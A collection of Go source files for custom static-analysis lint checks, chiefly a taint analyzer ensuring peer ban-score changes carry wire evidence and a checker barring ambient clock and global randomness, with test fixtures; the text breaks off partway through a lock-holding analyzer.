func (t *Tracker) MisbehavingCtx(id PeerID, inbound bool, rule RuleID, mctx MisbehaviorContext) Result {
	_ = mctx
	return Result{Delta: 10, Applied: true}
}

// Misbehaving is the ctx-less compatibility path: its delegation seeds an
// empty context, which is exactly the evidence-free mutation the analyzer
// exists to flag.
func (t *Tracker) Misbehaving(id PeerID, inbound bool, rule RuleID) Result {
	return t.MisbehavingCtx(id, inbound, rule, MisbehaviorContext{}) // want `misbehavior context without wire evidence`
}

// Reset shows a reviewed waiver silencing the same finding — repo-level
// diagnostics must flow through the //lint:allow pass like any other.
func (t *Tracker) Reset(id PeerID) Result {
	//lint:allow evidenceflow(fixture: deliberate empty-context delegation under waiver)
	return t.MisbehavingCtx(id, false, 0, MisbehaviorContext{})
}
