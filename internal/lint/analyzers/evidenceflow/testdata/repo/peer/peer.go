// Package peer mirrors the evidence-snapshot surface for fixtures.
package peer

type Peer struct {
	evidence uint32
	plen     int
}

func (p *Peer) ID() string { return "peer" }

func (p *Peer) Inbound() bool { return true }

// LastEvidence is the wire-evidence source: the digest and length of the
// last decoded payload.
func (p *Peer) LastEvidence() (uint32, int) { return p.evidence, p.plen }
