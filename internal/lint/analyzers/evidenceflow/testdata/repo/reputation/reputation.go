// Package reputation mirrors the penalty surface for fixtures.
package reputation

type PenaltyResult struct {
	GroupBanned bool
}

type Engine struct{}

func (e *Engine) Penalize(id string, weight int) PenaltyResult {
	_ = weight
	return PenaltyResult{}
}
