// Package node exercises the evidenceflow sinks: clean evidence chains,
// interprocedural propagation, and the seeded violations.
package node

import (
	"core"
	"peer"
	"reputation"
)

type Node struct {
	tracker *core.Tracker
	rep     *reputation.Engine
}

// misbehave is the canonical clean chain: LastEvidence feeds the context
// literal, the Result feeds the reputation penalty.
func (n *Node) misbehave(p *peer.Peer, cmd string, rule core.RuleID) core.Result {
	digest, payloadLen := p.LastEvidence()
	res := n.tracker.MisbehavingCtx(core.PeerID(p.ID()), p.Inbound(), rule, core.MisbehaviorContext{
		Command:       cmd,
		PayloadDigest: digest,
		PayloadLen:    payloadLen,
	})
	if res.Applied {
		n.rep.Penalize(p.ID(), res.Delta)
	}
	return res
}

// buildCtx propagates evidence taint through a helper's parameters into
// its result — the interprocedural summary path.
func buildCtx(cmd string, digest uint32, n int) core.MisbehaviorContext {
	return core.MisbehaviorContext{Command: cmd, PayloadDigest: digest, PayloadLen: n}
}

func (n *Node) misbehaveVia(p *peer.Peer, cmd string, rule core.RuleID) {
	d, l := p.LastEvidence()
	n.tracker.MisbehavingCtx(core.PeerID(p.ID()), p.Inbound(), rule, buildCtx(cmd, d, l))
}

// applyCtx passes its own parameter into the sink, transferring the
// evidence obligation to its callers.
func (n *Node) applyCtx(p *peer.Peer, rule core.RuleID, mctx core.MisbehaviorContext) {
	n.tracker.MisbehavingCtx(core.PeerID(p.ID()), p.Inbound(), rule, mctx)
}

// wrapped satisfies the transferred obligation with real evidence.
func (n *Node) wrapped(p *peer.Peer, rule core.RuleID) {
	d, l := p.LastEvidence()
	n.applyCtx(p, rule, core.MisbehaviorContext{PayloadDigest: d, PayloadLen: l})
}

// fabricated invents a context with no wire evidence on any path.
func (n *Node) fabricated(p *peer.Peer, rule core.RuleID) {
	n.tracker.MisbehavingCtx(core.PeerID(p.ID()), p.Inbound(), rule, core.MisbehaviorContext{ // want `misbehavior context without wire evidence`
		Command: "fabricated",
	})
}

// legacy calls the ctx-less entry point, which can never carry evidence.
func (n *Node) legacy(p *peer.Peer, rule core.RuleID) {
	n.tracker.Misbehaving(core.PeerID(p.ID()), p.Inbound(), rule) // want `evidence-free score mutation`
}

// wrappedBad feeds the obligation-carrying wrapper a fabricated context;
// the diagnostic lands here, at the call that broke the chain.
func (n *Node) wrappedBad(p *peer.Peer, rule core.RuleID) {
	n.applyCtx(p, rule, core.MisbehaviorContext{Command: "x"}) // want `misbehavior context without wire evidence`
}

// flatPenalty charges reputation with an invented weight instead of a
// misbehavior Result delta.
func (n *Node) flatPenalty(p *peer.Peer) {
	n.rep.Penalize(p.ID(), 100) // want `reputation penalty without misbehavior evidence`
}
