// Package evidenceflow defines the banlint analyzer that proves every
// misbehavior-score mutation is backed by wire evidence.
//
// The paper's defamation analysis (EXPERIMENTS.md, "Defamation resistance")
// rests on one structural property: a peer's score can only move when the
// node holds a digest of the actual bytes that peer sent. The forensics
// chain — wire.Codec.LastChecksum capturing the decoded payload's checksum,
// peer.LastEvidence snapshotting it per message, core.MisbehaviorContext
// carrying it into the ban ledger — makes every ban replayable to a
// concrete message. A code path that charges a score without threading
// that digest (a hardcoded MisbehaviorContext{}, a reputation penalty
// invented outside a misbehavior result) silently reintroduces the
// defamation vector the design closed: state the node cannot prove.
//
// This analyzer makes the property structural, with interprocedural taint
// tracking over the banvet dataflow tier. Evidence taint originates at
// calls to LastEvidence / LastChecksum; it propagates through assignments,
// composite literals, field selections, and — via per-function summaries
// computed to fixpoint over the whole repo — through helper functions and
// wrapper parameters. Three sinks are checked:
//
//   - Tracker.Misbehaving (core): always reported — the ctx-less entry
//     point cannot carry evidence. Its one legitimate use (the tracker's
//     own compatibility delegation) carries a reviewed //lint:allow.
//   - Tracker.MisbehavingCtx (core): the MisbehaviorContext argument must
//     be evidence-tainted on some path, or be a parameter of the calling
//     function — in which case the obligation transfers to that
//     function's callers.
//   - Engine.Penalize (reputation): the weight must derive from the
//     Result of an evidence-carrying MisbehavingCtx call, so reputation
//     charges mirror ledger-backed hits rather than inventing their own.
//
// The analysis is a may-analysis: evidence on any path satisfies a sink.
// That is the lint trade — a function with one evidenced and one
// fabricated branch passes — but every fully evidence-free mutation path
// is caught, and the framework has no type information to do better
// soundly.
package evidenceflow

import (
	"go/ast"
	"strconv"
	"strings"

	"banscore/internal/lint/analysis"
	"banscore/internal/lint/analysis/banvet"
)

// Analyzer is the evidenceflow check.
var Analyzer = &analysis.Analyzer{
	Name: "evidenceflow",
	Doc: "score mutations must carry wire-derived misbehavior evidence\n\n" +
		"Interprocedural taint analysis: every call to Tracker.MisbehavingCtx " +
		"must pass a MisbehaviorContext whose digest originates from " +
		"wire.Codec.LastChecksum or peer.LastEvidence; every Engine.Penalize " +
		"weight must derive from an evidence-carrying misbehavior Result; the " +
		"ctx-less Tracker.Misbehaving is reported unconditionally.",
	RunRepo: run,
}

// sourceCalls are the method names whose results carry fresh wire
// evidence: the codec's checksum of the last decoded payload and the
// peer's per-message evidence snapshot.
var sourceCalls = map[string]bool{
	"LastEvidence": true,
	"LastChecksum": true,
}

// srcOrigin is the taint origin meaning "derived from a wire-evidence
// source"; param origins are "p0", "p1", ...
const srcOrigin = "src"

// factSep joins variable name and origin into one fact string.
const factSep = "\x00"

func run(pass *analysis.RepoPass) error {
	c := &checker{
		pass:      pass,
		ix:        banvet.NewIndex(pass.Units),
		summaries: make(map[*banvet.Func]*summary),
	}
	for _, f := range c.ix.Funcs {
		c.summaries[f] = &summary{propagate: map[int]bool{}, sinkParams: map[int]bool{}}
	}
	// Interprocedural fixpoint: summaries feed call-site origins, which
	// feed summaries. The lattice (src-result bit, param subsets) is
	// finite and grows monotonically, so this terminates.
	for changed := true; changed; {
		changed = false
		for _, f := range c.ix.Funcs {
			if c.updateSummary(f) {
				changed = true
			}
		}
	}
	for _, f := range c.ix.Funcs {
		c.report(f)
	}
	return nil
}

// summary is one function's interprocedural contract.
type summary struct {
	// srcResult: the function's results are evidence-tainted regardless
	// of arguments.
	srcResult bool
	// propagate: argument taint at these param indices flows to the
	// results.
	propagate map[int]bool
	// sinkParams: these params flow into an evidence sink without
	// gaining taint inside the function, so callers must pass evidence-
	// tainted arguments there.
	sinkParams map[int]bool
}

type checker struct {
	pass      *analysis.RepoPass
	ix        *banvet.Index
	summaries map[*banvet.Func]*summary
}

// sinkKind classifies a callee.
type sinkKind int

const (
	notSink sinkKind = iota
	sinkMisbehaving
	sinkCtx
	sinkPenalize
)

// classify reports whether callee is one of the score-mutation sinks.
func classify(callee *banvet.Func) sinkKind {
	switch {
	case callee.Recv.Name == "Tracker" && callee.Name == "Misbehaving" && callee.Unit.HasPathSegment("core"):
		return sinkMisbehaving
	case callee.Recv.Name == "Tracker" && callee.Name == "MisbehavingCtx" && callee.Unit.HasPathSegment("core"):
		return sinkCtx
	case callee.Recv.Name == "Engine" && callee.Name == "Penalize" && callee.Unit.HasPathSegment("reputation"):
		return sinkPenalize
	}
	return notSink
}

// requiredArg is the argument index a sink demands evidence at.
func requiredArg(k sinkKind, call *ast.CallExpr) (int, bool) {
	switch k {
	case sinkCtx:
		if len(call.Args) > 0 {
			return len(call.Args) - 1, true
		}
	case sinkPenalize:
		if len(call.Args) >= 2 {
			return 1, true
		}
	}
	return 0, false
}

// entryFacts seeds the dataflow with each parameter tainted by its own
// param origin, so summaries can express "flows from param i".
func (c *checker) entryFacts(f *banvet.Func) banvet.Facts {
	facts := banvet.Facts{}
	i := 0
	if f.Decl.Type.Params != nil {
		for _, field := range f.Decl.Type.Params.List {
			for _, name := range field.Names {
				facts[name.Name+factSep+"p"+strconv.Itoa(i)] = true
				i++
			}
			if len(field.Names) == 0 {
				i++
			}
		}
	}
	return facts
}

// analyze runs the intra-function dataflow and returns the per-block
// entry facts.
func (c *checker) analyze(f *banvet.Func) map[*banvet.Block]banvet.Facts {
	env := c.ix.Env(f)
	return banvet.Forward(f.CFG(), c.entryFacts(f), func(b *banvet.Block, facts banvet.Facts) banvet.Facts {
		for _, n := range b.Nodes {
			c.transferNode(f, env, facts, n)
		}
		return facts
	})
}

// transferNode applies one CFG node's gen effects to facts.
func (c *checker) transferNode(f *banvet.Func, env map[string]banvet.TypeRef, facts banvet.Facts, n ast.Node) {
	switch n := n.(type) {
	case *ast.AssignStmt:
		c.transferAssign(f, env, facts, n)
	case *ast.DeclStmt:
		if gd, ok := n.Decl.(*ast.GenDecl); ok {
			for _, spec := range gd.Specs {
				vs, ok := spec.(*ast.ValueSpec)
				if !ok {
					continue
				}
				for i, name := range vs.Names {
					if i < len(vs.Values) {
						addOrigins(facts, name.Name, c.origins(f, env, facts, vs.Values[i]))
					}
				}
			}
		}
	case *ast.RangeStmt:
		o := c.origins(f, env, facts, n.X)
		if id, ok := n.Key.(*ast.Ident); ok {
			addOrigins(facts, id.Name, o)
		}
		if id, ok := n.Value.(*ast.Ident); ok {
			addOrigins(facts, id.Name, o)
		}
	}
}

func (c *checker) transferAssign(f *banvet.Func, env map[string]banvet.TypeRef, facts banvet.Facts, a *ast.AssignStmt) {
	assign := func(lhs ast.Expr, o map[string]bool) {
		// Field or element writes (x.f = v, x[i] = v) taint the base
		// variable whole — field-insensitive, the conservative merge.
		if id := baseIdent(lhs); id != nil && id.Name != "_" {
			addOrigins(facts, id.Name, o)
		}
	}
	if len(a.Lhs) == len(a.Rhs) {
		for i := range a.Lhs {
			assign(a.Lhs[i], c.origins(f, env, facts, a.Rhs[i]))
		}
		return
	}
	if len(a.Rhs) == 1 {
		o := c.origins(f, env, facts, a.Rhs[0])
		for _, lhs := range a.Lhs {
			assign(lhs, o)
		}
	}
}

// inspectNode visits a CFG node's subtree. A RangeStmt sits in the loop
// head but syntactically contains the loop body, whose statements have
// their own blocks — descend only into its range/key/value expressions
// so body calls are not visited twice.
func inspectNode(n ast.Node, fn func(ast.Node) bool) {
	if rs, ok := n.(*ast.RangeStmt); ok {
		if rs.Key != nil {
			ast.Inspect(rs.Key, fn)
		}
		if rs.Value != nil {
			ast.Inspect(rs.Value, fn)
		}
		ast.Inspect(rs.X, fn)
		return
	}
	ast.Inspect(n, fn)
}

// baseIdent unwraps selectors, indexes, stars, and parens to the root
// identifier of an lvalue, nil when the root is not an identifier.
func baseIdent(e ast.Expr) *ast.Ident {
	for {
		switch t := e.(type) {
		case *ast.Ident:
			return t
		case *ast.SelectorExpr:
			e = t.X
		case *ast.IndexExpr:
			e = t.X
		case *ast.StarExpr:
			e = t.X
		case *ast.ParenExpr:
			e = t.X
		default:
			return nil
		}
	}
}

func addOrigins(facts banvet.Facts, name string, origins map[string]bool) {
	for o := range origins {
		facts[name+factSep+o] = true
	}
}

// origins computes the taint origins of an expression: srcOrigin and/or
// "p<i>" param markers, empty when untainted.
func (c *checker) origins(f *banvet.Func, env map[string]banvet.TypeRef, facts banvet.Facts, e ast.Expr) map[string]bool {
	out := map[string]bool{}
	c.addExprOrigins(f, env, facts, e, out)
	return out
}

func (c *checker) addExprOrigins(f *banvet.Func, env map[string]banvet.TypeRef, facts banvet.Facts, e ast.Expr, out map[string]bool) {
	switch e := e.(type) {
	case *ast.Ident:
		prefix := e.Name + factSep
		for k := range facts {
			if strings.HasPrefix(k, prefix) {
				out[k[len(prefix):]] = true
			}
		}
	case *ast.SelectorExpr:
		c.addExprOrigins(f, env, facts, e.X, out)
	case *ast.ParenExpr:
		c.addExprOrigins(f, env, facts, e.X, out)
	case *ast.StarExpr:
		c.addExprOrigins(f, env, facts, e.X, out)
	case *ast.UnaryExpr:
		c.addExprOrigins(f, env, facts, e.X, out)
	case *ast.IndexExpr:
		c.addExprOrigins(f, env, facts, e.X, out)
	case *ast.TypeAssertExpr:
		c.addExprOrigins(f, env, facts, e.X, out)
	case *ast.BinaryExpr:
		c.addExprOrigins(f, env, facts, e.X, out)
		c.addExprOrigins(f, env, facts, e.Y, out)
	case *ast.KeyValueExpr:
		c.addExprOrigins(f, env, facts, e.Value, out)
	case *ast.CompositeLit:
		for _, elt := range e.Elts {
			c.addExprOrigins(f, env, facts, elt, out)
		}
	case *ast.CallExpr:
		c.addCallOrigins(f, env, facts, e, out)
	}
}

func (c *checker) addCallOrigins(f *banvet.Func, env map[string]banvet.TypeRef, facts banvet.Facts, call *ast.CallExpr, out map[string]bool) {
	// A call to a wire-evidence source taints its results outright.
	if sel, ok := call.Fun.(*ast.SelectorExpr); ok && sourceCalls[sel.Sel.Name] {
		out[srcOrigin] = true
		return
	}
	callees, exact := c.ix.Callees(f, env, call)
	if exact && len(callees) == 1 {
		callee := callees[0]
		// The Result of an evidence-checked MisbehavingCtx call is itself
		// evidence-carrying: it is what Penalize weights must derive from.
		// (Whether the call's OWN context argument is evidenced is checked
		// at that call site, not here.)
		if classify(callee) == sinkCtx {
			out[srcOrigin] = true
			return
		}
		s := c.summaries[callee]
		if s.srcResult {
			out[srcOrigin] = true
		}
		for p := range s.propagate {
			if p < len(call.Args) {
				c.addExprOrigins(f, env, facts, call.Args[p], out)
			}
		}
		// Taint through the receiver of method chains.
		if sel, ok := call.Fun.(*ast.SelectorExpr); ok {
			c.addExprOrigins(f, env, facts, sel.X, out)
		}
		return
	}
	// Unresolved or external call: propagate conservatively through every
	// argument and the receiver, so helper chains outside the index
	// (hashing, formatting) do not launder taint away.
	for _, cand := range callees {
		if c.summaries[cand].srcResult || classify(cand) == sinkCtx {
			out[srcOrigin] = true
		}
	}
	for _, arg := range call.Args {
		c.addExprOrigins(f, env, facts, arg, out)
	}
	if sel, ok := call.Fun.(*ast.SelectorExpr); ok {
		c.addExprOrigins(f, env, facts, sel.X, out)
	}
}

// updateSummary recomputes f's summary and sink obligations; reports
// whether anything grew.
func (c *checker) updateSummary(f *banvet.Func) bool {
	if f.Decl.Body == nil {
		return false
	}
	env := c.ix.Env(f)
	in := c.analyze(f)
	s := c.summaries[f]
	grew := false

	for _, b := range f.CFG().Blocks {
		facts := in[b].Clone()
		for _, n := range b.Nodes {
			// Collect return origins and sink obligations BEFORE applying
			// the node's own gen effects, matching evaluation order.
			inspectNode(n, func(m ast.Node) bool {
				switch m := m.(type) {
				case *ast.ReturnStmt:
					for _, res := range m.Results {
						for o := range c.origins(f, env, facts, res) {
							if o == srcOrigin {
								if !s.srcResult {
									s.srcResult, grew = true, true
								}
							} else if p, ok := paramIndex(o); ok {
								if !s.propagate[p] {
									s.propagate[p], grew = true, true
								}
							}
						}
					}
				case *ast.CallExpr:
					for _, idx := range c.sinkObligations(f, env, m) {
						o := c.origins(f, env, facts, m.Args[idx])
						if o[srcOrigin] {
							continue
						}
						for origin := range o {
							if p, ok := paramIndex(origin); ok && !s.sinkParams[p] {
								s.sinkParams[p], grew = true, true
							}
						}
					}
				}
				return true
			})
			c.transferNode(f, env, facts, n)
		}
	}
	return grew
}

// sinkObligations returns the argument indices of call that must carry
// evidence: direct sink requirements plus the callee's own sinkParams.
func (c *checker) sinkObligations(f *banvet.Func, env map[string]banvet.TypeRef, call *ast.CallExpr) []int {
	callees, _ := c.ix.Callees(f, env, call)
	need := map[int]bool{}
	for _, callee := range callees {
		if idx, ok := requiredArg(classify(callee), call); ok {
			need[idx] = true
		}
		for p := range c.summaries[callee].sinkParams {
			if p < len(call.Args) {
				need[p] = true
			}
		}
	}
	var out []int
	for i := range call.Args {
		if need[i] {
			out = append(out, i)
		}
	}
	return out
}

// report walks f's call sites with the converged facts and emits the
// diagnostics.
func (c *checker) report(f *banvet.Func) {
	if f.Decl.Body == nil {
		return
	}
	env := c.ix.Env(f)
	in := c.analyze(f)
	for _, b := range f.CFG().Blocks {
		facts := in[b].Clone()
		for _, n := range b.Nodes {
			inspectNode(n, func(m ast.Node) bool {
				call, ok := m.(*ast.CallExpr)
				if !ok {
					return true
				}
				c.reportCall(f, env, facts, call)
				return true
			})
			c.transferNode(f, env, facts, n)
		}
	}
}

func (c *checker) reportCall(f *banvet.Func, env map[string]banvet.TypeRef, facts banvet.Facts, call *ast.CallExpr) {
	callees, _ := c.ix.Callees(f, env, call)
	for _, callee := range callees {
		kind := classify(callee)
		if kind == sinkMisbehaving {
			c.pass.Reportf(f.Unit, call.Pos(),
				"evidence-free score mutation: %s carries no MisbehaviorContext; call MisbehavingCtx with a digest from wire.Codec.LastChecksum or peer.LastEvidence",
				callee.QName())
			continue
		}
		checked := map[int]bool{}
		if idx, ok := requiredArg(kind, call); ok {
			checked[idx] = true
		}
		for p := range c.summaries[callee].sinkParams {
			if p < len(call.Args) {
				checked[p] = true
			}
		}
		for idx := range call.Args {
			if !checked[idx] {
				continue
			}
			o := c.origins(f, env, facts, call.Args[idx])
			if o[srcOrigin] {
				continue
			}
			if hasParamOrigin(o) {
				// The obligation transfers to f's callers via
				// sinkParams; they are checked at their own sites.
				continue
			}
			switch kind {
			case sinkPenalize:
				c.pass.Reportf(f.Unit, call.Pos(),
					"reputation penalty without misbehavior evidence: the weight passed to %s does not derive from an evidence-carrying MisbehavingCtx Result on any path",
					callee.QName())
			default:
				c.pass.Reportf(f.Unit, call.Pos(),
					"misbehavior context without wire evidence: the context reaching %s carries no digest from wire.Codec.LastChecksum or peer.LastEvidence on any path",
					callee.QName())
			}
		}
	}
}

func paramIndex(origin string) (int, bool) {
	if len(origin) < 2 || origin[0] != 'p' {
		return 0, false
	}
	n, err := strconv.Atoi(origin[1:])
	return n, err == nil
}

func hasParamOrigin(o map[string]bool) bool {
	for origin := range o {
		if _, ok := paramIndex(origin); ok {
			return true
		}
	}
	return false
}
