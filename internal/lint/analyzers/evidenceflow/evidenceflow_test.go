package evidenceflow

import (
	"path/filepath"
	"testing"

	"banscore/internal/lint/analysistest"
)

func TestEvidenceFlow(t *testing.T) {
	analysistest.RunTree(t, filepath.Join("testdata", "repo"), Analyzer)
}
