// Package wallclock defines the banlint analyzer that keeps wall-clock
// time and unseeded randomness out of the determinism-critical packages.
//
// The reproduction's headline guarantees — seeded fault plans that replay
// identically, chaos scenarios whose assertions do not depend on host
// scheduling, experiment tables that are functions of their inputs — hold
// only if the simulation substrate never consults an ambient clock or the
// global math/rand state. A single stray time.Now in a fault schedule is
// invisible to go vet and to the race detector, and only bites when a slow
// CI machine happens to stretch the window it gates. This analyzer makes
// the property structural: inside the scoped packages every use of the
// time package's clock-reading or scheduling functions (Now, Sleep, Since,
// Until, After, AfterFunc, NewTimer, NewTicker, Tick) and every call into
// the global math/rand generator (rand.Intn, rand.Float64, ... — anything
// not routed through an explicitly seeded rand.New) is a diagnostic.
//
// The sanctioned gateway is internal/vclock: code in scope takes its time
// from an injected vclock.Clock, and vclock's own System implementation —
// the one place wall clock is allowed to enter — carries
// //lint:allow wallclock(...) waivers that keep the boundary auditable.
package wallclock

import (
	"go/ast"

	"banscore/internal/lint/analysis"
)

// DefaultScope lists the import-path segments of the determinism-critical
// packages. vclock is deliberately in scope: its wall-clock calls exist,
// but each must carry an explicit waiver. reputation is in scope because
// the engine's decay arithmetic must be a function of its injected clock —
// an ambient time.Now would desynchronize identical schedules across runs.
// banstore is in scope because recovery replay must reproduce the exact
// state the live process held: fsync pacing and latency measurement run
// off the injected clock, and record timestamps come from the callers'
// clocks, never the ambient one. observer is in scope because the fleet
// store's synthesized event stamps and poll pacing must be injectable for
// the crash/restart chaos suite to replay deterministically. fleet and
// attack are in scope because the multi-process harness and the attack
// replayers time their pacing, ban waits, and session stamps off clocks
// that the tests fake; an ambient read there makes the fleet artifacts
// non-reproducible (wall-clock seeds and deadlines carry explicit
// waivers). swarm is in scope because the event-loop engine schedules
// purely off readiness edges and condition variables: a stray timer or
// ambient clock read there would reintroduce the host-scheduling
// dependence the engine exists to remove.
var DefaultScope = []string{"simnet", "experiments", "vclock", "reputation", "banstore", "observer", "fleet", "attack", "swarm"}

// bannedTime is the set of time-package functions that read or schedule
// against the ambient clock. Constructors of values (time.Date, time.Unix,
// time.Duration arithmetic) are fine — they are pure.
var bannedTime = map[string]bool{
	"Now":       true,
	"Sleep":     true,
	"Since":     true,
	"Until":     true,
	"After":     true,
	"AfterFunc": true,
	"NewTimer":  true,
	"NewTicker": true,
	"Tick":      true,
}

// allowedRand is the set of math/rand names that do NOT touch the global
// generator: constructors for explicitly seeded sources and their types.
// Everything else exported by math/rand and math/rand/v2 draws from shared
// process-global state and is banned in scope.
var allowedRand = map[string]bool{
	"New":        true,
	"NewSource":  true,
	"NewZipf":    true,
	"NewPCG":     true,
	"NewChaCha8": true,
	// Type names, usable in declarations.
	"Rand":     true,
	"Source":   true,
	"Source64": true,
	"Zipf":     true,
	"PCG":      true,
	"ChaCha8":  true,
}

// Analyzer is the wallclock check.
var Analyzer = &analysis.Analyzer{
	Name: "wallclock",
	Doc: "forbid ambient time and global math/rand in determinism-critical packages\n\n" +
		"Packages whose import path contains a scoped segment (default: simnet, " +
		"experiments, vclock, reputation, banstore) must take time from an injected vclock.Clock and " +
		"randomness from an explicitly seeded rand.New; ambient clock reads and " +
		"global-generator calls are reported.",
	Run: run,
}

func run(pass *analysis.Pass) error {
	inScope := false
	for _, seg := range DefaultScope {
		if pass.HasPathSegment(seg) {
			inScope = true
			break
		}
	}
	if !inScope {
		return nil
	}
	for _, file := range pass.Files {
		timeName := analysis.ImportName(file, "time")
		randName := analysis.ImportName(file, "math/rand")
		randV2Name := analysis.ImportName(file, "math/rand/v2")
		if timeName == "" && randName == "" && randV2Name == "" {
			continue
		}
		ast.Inspect(file, func(n ast.Node) bool {
			sel, ok := n.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			base, ok := sel.X.(*ast.Ident)
			if !ok {
				return true
			}
			switch {
			case timeName != "" && base.Name == timeName:
				if bannedTime[sel.Sel.Name] {
					pass.Reportf(sel.Pos(),
						"%s.%s reads the ambient clock in a determinism-critical package; take time from an injected vclock.Clock",
						base.Name, sel.Sel.Name)
				}
			case (randName != "" && base.Name == randName) || (randV2Name != "" && base.Name == randV2Name):
				if !allowedRand[sel.Sel.Name] {
					pass.Reportf(sel.Pos(),
						"%s.%s draws from the global math/rand generator in a determinism-critical package; use an explicitly seeded rand.New",
						base.Name, sel.Sel.Name)
				}
			}
			return true
		})
	}
	return nil
}
