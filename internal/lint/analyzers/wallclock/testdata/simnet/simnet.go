// Package simnet is a wallclock fixture: its directory name puts it in
// the analyzer's scope (segment "simnet").
package simnet

import (
	"math/rand"
	rnd "math/rand/v2"
	"time"
)

var someStart time.Time

// ambientTime exercises every banned time-package call.
func ambientTime() {
	now := time.Now() // want `time\.Now reads the ambient clock in a determinism-critical package; take time from an injected vclock\.Clock`
	_ = now
	time.Sleep(time.Second)   // want `time\.Sleep reads the ambient clock`
	_ = time.Since(someStart) // want `time\.Since reads the ambient clock`
	_ = time.Until(someStart) // want `time\.Until reads the ambient clock`
	<-time.After(time.Second) // want `time\.After reads the ambient clock`
	t := time.NewTimer(0)     // want `time\.NewTimer reads the ambient clock`
	t.Stop()
	k := time.NewTicker(1) // want `time\.NewTicker reads the ambient clock`
	k.Stop()
	time.AfterFunc(0, func() {}) // want `time\.AfterFunc reads the ambient clock`
}

// pureTime shows the time package's pure surface is untouched.
func pureTime() {
	_ = time.Date(2026, time.January, 1, 0, 0, 0, 0, time.UTC)
	_ = time.Unix(0, 0)
	_ = 3 * time.Second
	_ = time.Duration(42)
	var zero time.Time
	_ = zero.Add(time.Minute)
}

// globalRand exercises the banned global-generator surface of both
// math/rand and math/rand/v2.
func globalRand() {
	_ = rand.Intn(10)    // want `rand\.Intn draws from the global math/rand generator in a determinism-critical package; use an explicitly seeded rand\.New`
	_ = rand.Float64()   // want `rand\.Float64 draws from the global math/rand generator`
	rand.Shuffle(3, nil) // want `rand\.Shuffle draws from the global math/rand generator`
	_ = rnd.Uint64()     // want `rnd\.Uint64 draws from the global math/rand generator`
}

// seededRand shows the sanctioned constructors pass.
func seededRand() {
	r := rand.New(rand.NewSource(1))
	_ = r.Intn(10) // method on a seeded *rand.Rand, not the global funcs
	var z *rand.Zipf
	_ = z
	p := rnd.New(rnd.NewPCG(1, 2))
	_ = p.Uint64()
}

// suppressed proves one trailing waiver silences exactly one finding.
func suppressed() {
	_ = time.Now() //lint:allow wallclock(fixture: sanctioned gateway stand-in)
	_ = time.Now() // want `time\.Now reads the ambient clock`
}

// standalone proves a directive alone on its line targets the next line.
func standalone() {
	//lint:allow wallclock(fixture: stand-alone waiver targets the next line)
	_ = time.Now()
	_ = time.Now() // want `time\.Now reads the ambient clock`
}

// wrongAnalyzer proves a waiver only silences the analyzer it names.
func wrongAnalyzer() {
	//lint:allow gospawn(fixture: names the wrong analyzer)
	_ = time.Now() // want `time\.Now reads the ambient clock`
}

// malformed directives are themselves diagnostics and waive nothing.
func malformed() {
	_ = time.Now() //lint:allow // want `time\.Now reads the ambient clock` `malformed lint:allow directive: want //lint:allow <analyzer>\(<reason>\) with a non-empty reason`
	_ = time.Now() //lint:allow wallclock // want `time\.Now reads the ambient clock` `malformed lint:allow directive`
	_ = time.Now() //lint:allow wallclock() // want `time\.Now reads the ambient clock` `malformed lint:allow directive`
}
