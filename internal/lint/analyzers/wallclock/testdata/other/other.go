// Package other is a wallclock fixture OUTSIDE the analyzer's scope: no
// import-path segment matches simnet/experiments/vclock, so ambient clock
// reads here are legitimate and must produce no diagnostics.
package other

import (
	"math/rand"
	"time"
)

func ambientIsFine() time.Time {
	time.Sleep(time.Duration(rand.Intn(5)))
	return time.Now()
}
