package wallclock_test

import (
	"testing"

	"banscore/internal/lint/analysistest"
	"banscore/internal/lint/analyzers/wallclock"
)

func TestInScope(t *testing.T) {
	analysistest.Run(t, "testdata/simnet", wallclock.Analyzer)
}

func TestOutOfScope(t *testing.T) {
	analysistest.Run(t, "testdata/other", wallclock.Analyzer)
}
