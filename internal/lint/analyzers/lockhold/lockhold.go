// Package lockhold defines the banlint analyzer that forbids blocking
// operations while a sync.Mutex or RWMutex is held.
//
// This is the deadlock shape the chaos suite hunts dynamically: a
// goroutine takes a lock, then parks on something whose progress needs
// that same lock — a channel handoff with the consumer stuck behind the
// mutex, a WaitGroup whose workers are queued on it, a net.Conn write
// back-pressured by a peer whose read loop is blocked on our state. The
// race detector never sees it (nothing races) and tests only catch it
// when the scheduler cooperates. The analyzer makes the rule static:
// between x.Lock()/x.RLock() and the matching x.Unlock()/x.RUnlock() —
// or to the end of the function when the unlock is deferred — these are
// diagnostics:
//
//   - channel sends and receives,
//   - select statements with no default clause,
//   - time.Sleep,
//   - WaitGroup-style waits: any .Wait() or .WaitForShutdown() call,
//     except sync.Cond waits (receivers whose name contains "cond"),
//     which require the lock by contract.
//
// The tracking is syntactic and per-branch: a lock taken inside a branch
// is held for the rest of that branch, and a branch-local unlock does not
// leak out — conservative in the direction of silence, so a diagnostic
// from this analyzer is worth believing.
package lockhold

import (
	"go/ast"
	"go/token"
	"strings"

	"banscore/internal/lint/analysis"
)

// Analyzer is the lockhold check.
var Analyzer = &analysis.Analyzer{
	Name: "lockhold",
	Doc: "forbid blocking operations while holding a mutex\n\n" +
		"Channel operations, default-less selects, time.Sleep, and " +
		"WaitGroup-style waits between Lock/Unlock pairs (or under a deferred " +
		"unlock) are reported: they are the static shape of the lock-ordering " +
		"deadlocks the chaos suite chases dynamically.",
	Run: run,
}

func run(pass *analysis.Pass) error {
	for _, file := range pass.Files {
		timeName := analysis.ImportName(file, "time")
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok || fn.Body == nil {
				continue
			}
			w := &walker{pass: pass, timeName: timeName}
			w.walkBody(fn.Body, newHeld())
		}
	}
	return nil
}

// held is the set of lock receiver expressions currently held, rendered
// as strings ("n.mu", "fs.mu").
type held map[string]bool

func newHeld() held { return make(held) }

func (h held) clone() held {
	c := make(held, len(h))
	for k := range h {
		c[k] = true
	}
	return c
}

// walker scans one function body, tracking lock state statement by
// statement.
type walker struct {
	pass     *analysis.Pass
	timeName string
}

// walkBody processes a statement list with the given entry lock state and
// returns the state at its end.
func (w *walker) walkBody(block *ast.BlockStmt, h held) held {
	for _, stmt := range block.List {
		h = w.walkStmt(stmt, h)
	}
	return h
}

// walkStmt processes one statement: updates lock state for Lock/Unlock
// calls, reports blocking operations while locks are held, and recurses
// into nested statements with branch-local copies of the state.
func (w *walker) walkStmt(stmt ast.Stmt, h held) held {
	switch s := stmt.(type) {
	case *ast.ExprStmt:
		if recv, op := lockCall(s.X); recv != "" {
			switch op {
			case "Lock", "RLock":
				h[recv] = true
